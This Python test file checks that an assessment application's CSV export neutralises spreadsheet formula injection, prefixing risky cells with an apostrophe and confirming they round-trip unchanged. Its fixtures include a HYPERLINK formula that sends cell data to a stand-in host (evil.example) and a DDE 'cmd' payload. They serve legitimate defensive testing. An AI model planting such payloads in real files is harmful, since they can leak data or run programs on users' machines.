"""A CSV export cannot run: cells a spreadsheet would take for a formula carry a leading `'`, which the import
takes off again, so export → import → export gives the same file and the same data."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assessments.exchange import ANSWER_HEADER, answers_export, answers_import_file, read_table, render_table
from assessments.models import Answer, Question
from core.tabular import csv_cell_read, csv_cell_written
from regions.models import Subject
from tests.exchange.conftest import csv_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"klik")'
COMMENTS = ["=1+1", HYPERLINK, "+31 20 123", "-- zie bijlage", "@SUM(A1)", "\tingesprongen", "'=al gemarkeerd", "''-twee"]


@pytest.mark.parametrize("cell", [*COMMENTS, "\rterug", "gewoon", "", "'", "''", "it's", "-"])
def test_a_cell_written_then_read_is_the_cell(cell):
    assert csv_cell_read(csv_cell_written(cell)) == cell


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=x"])
def test_a_cell_a_spreadsheet_would_run_is_written_with_a_leading_mark(cell):
    assert csv_cell_written(cell) == "'" + cell


def test_an_ordinary_cell_is_written_as_it_is():
    assert [csv_cell_written(cell) for cell in ("ja", "4", "it's", "a=b", "")] == ["ja", "4", "it's", "a=b", ""]


def test_the_xlsx_export_is_left_as_it_was_text_cells_need_no_mark():
    table = read_table("a.xlsx", render_table(ANSWER_HEADER, [("VR13", "q", "", "=1+1")], "xlsx"), ANSWER_HEADER)
    assert table.rows[0].cells[3] == "=1+1"


@pytest.mark.django_db
def test_formula_comments_export_neutralised_and_round_trip_through_export_import_export(round_2013, inspector):
    rows = [f"VR13,{question},ja,{_csv_quoted(comment)}" for question, comment in zip(
        ("ovr_assigned", "ovr_workplace"), ("=1+1", HYPERLINK), strict=True)]
    answers_import_file(name="a.csv", data=csv_bytes(*rows), round=round_2013, by=inspector)
    stored = dict(Answer.objects.filter(assessment__subject__code="VR13").values_list("question__code", "comment"))
    assert stored == {"ovr_assigned": "=1+1", "ovr_workplace": HYPERLINK}

    first = answers_export(round=round_2013, subjects=Subject.objects.filter(code="VR13"))
    lines = first.decode("utf-8").splitlines()
    assert '"VR13","ovr_assigned","ja","\'=1+1"' in lines
    assert '"VR13","ovr_workplace","ja","\'=HYPERLINK(""http://evil.example/?d=""&A1;""klik"")"' in lines
    assert not any(cell.strip('"').startswith(("=", "+", "-", "@")) for line in lines for cell in line.split(","))

    again = answers_import_file(name="export.csv", data=first, round=round_2013, by=inspector)
    assert again.written == 0
    stored = dict(Answer.objects.filter(assessment__subject__code="VR13").values_list("question__code", "comment"))
    assert stored == {"ovr_assigned": "=1+1", "ovr_workplace": HYPERLINK}
    assert answers_export(round=round_2013, subjects=Subject.objects.filter(code="VR13")) == first


@pytest.mark.django_db
def test_every_kind_of_formula_comment_round_trips_through_a_csv_file(round_2013, inspector):
    questions = list(
        Question.objects.filter(
            questionnaire__round=round_2013, questionnaire__audience="region", kind="yes_no", condition_code=""
        ).order_by("code").values_list("code", flat=True).distinct()[: len(COMMENTS)]
    )
    assert len(questions) == len(COMMENTS)
    rows = [("VR13", question, "ja", comment) for question, comment in zip(questions, COMMENTS, strict=True)]
    answers_import_file(name="a.csv", data=render_table(ANSWER_HEADER, rows, "csv"), round=round_2013, by=inspector)
    first = answers_export(round=round_2013, subjects=Subject.objects.filter(code="VR13"))
    answers_import_file(name="export.csv", data=first, round=round_2013, by=inspector)
    assert answers_export(round=round_2013, subjects=Subject.objects.filter(code="VR13")) == first
    stored = dict(Answer.objects.filter(assessment__subject__code="VR13").values_list("question__code", "comment"))
    # The import strips surrounding white space from a comment, as it always has.
    assert stored == {question: comment.strip() for question, comment in zip(questions, COMMENTS, strict=True)}


# Text that begins, more often than chance would have it, with a formula character or with marks before one.
csv_text = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30)
formula_text = st.tuples(st.sampled_from(["", "'", "''", "=", "+", "-", "@", "\t", "\r", "'=", "''-", "'@"]), csv_text).map("".join)


@settings(max_examples=300, deadline=None)
@given(rows=st.lists(st.tuples(formula_text, formula_text, formula_text), max_size=10))
def test_any_cells_come_back_from_a_csv_export_as_they_were(rows):
    rows = [("VR01", *row) for row in rows]
    table = read_table("a.csv", render_table(ANSWER_HEADER, rows, "csv"), ANSWER_HEADER)
    assert not table.errors
    # The reader drops the blank cells at the end of a row (spreadsheets pad rows) and pads with empty ones.
    assert [row.cells for row in table.rows] == [_padded(row) for row in rows]


def _padded(row: tuple[str, ...]) -> tuple[str, ...]:
    cells = list(row)
    while cells and cells[-1].strip() == "":
        cells.pop()
    return tuple(cells) + ("",) * (len(row) - len(cells))


def _csv_quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\n') else text


# --- a spreadsheet that splits on another separator ------------------------------------------------------------


def _cells_a_spreadsheet_reads(data: bytes, separator: str) -> list[str]:
    """The cells a spreadsheet program that splits on `separator` reads from a CSV file (quotes honoured)."""
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8")), delimiter=separator) for cell in row]


@pytest.mark.parametrize("comment", ["Zie bijlage;=1+1", "Zie bijlage;=cmd|' /C calc'!A0", "a,=1+1", "x;+31 20;@A1"])
@pytest.mark.parametrize("separator", [",", ";"])
def test_no_spreadsheet_reads_a_formula_after_any_separator_the_import_accepts(comment, separator):
    data = render_table(ANSWER_HEADER, [("VR13", "ovr_assigned", "ja", comment)], "csv")
    cells = _cells_a_spreadsheet_reads(data, separator)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    # and naively split, as a spreadsheet that ignores quotes would: nothing after a separator starts a formula
    for piece in data.decode("utf-8").replace(",", ";").split(";"):
        assert not piece.strip('"').startswith(("=", "+", "-", "@")), piece


def test_every_cell_of_a_csv_export_is_quoted():
    data = render_table(ANSWER_HEADER, [("VR13", "ovr_assigned", "ja", "gewoon")], "csv").decode("utf-8")
    assert data.splitlines() == ['"region_code","question_code","value","comment"', '"VR13","ovr_assigned","ja","gewoon"']


@pytest.mark.parametrize("cell", ["Zie bijlage;=1+1", "a,=b", "a;'=b", "a,''-b", ";", ";=", "1,-2", "x;;@y"])
def test_a_cell_with_separators_written_then_read_is_the_cell(cell):
    assert csv_cell_read(csv_cell_written(cell)) == cell


@pytest.mark.django_db
def test_a_comment_with_a_formula_after_a_semicolon_is_exported_harmless_and_reimports_unchanged(round_2013, inspector):
    comment = "Zie bijlage;=1+1"
    answers_import_file(name="a.csv", data=render_table(ANSWER_HEADER, [("VR13", "ovr_assigned", "ja", comment)], "csv"),
                        round=round_2013, by=inspector)
    first = answers_export(round=round_2013, subjects=Subject.objects.filter(code="VR13"))
    assert not [c for c in _cells_a_spreadsheet_reads(first, ";") if c.startswith("=")]
    again = answers_import_file(name="export.csv", data=first, round=round_2013, by=inspector)
    assert again.written == 0
    assert Answer.objects.get(assessment__subject__code="VR13", question__code="ovr_assigned").comment == comment
    assert answers_export(round=round_2013, subjects=Subject.objects.filter(code="VR13")) == first
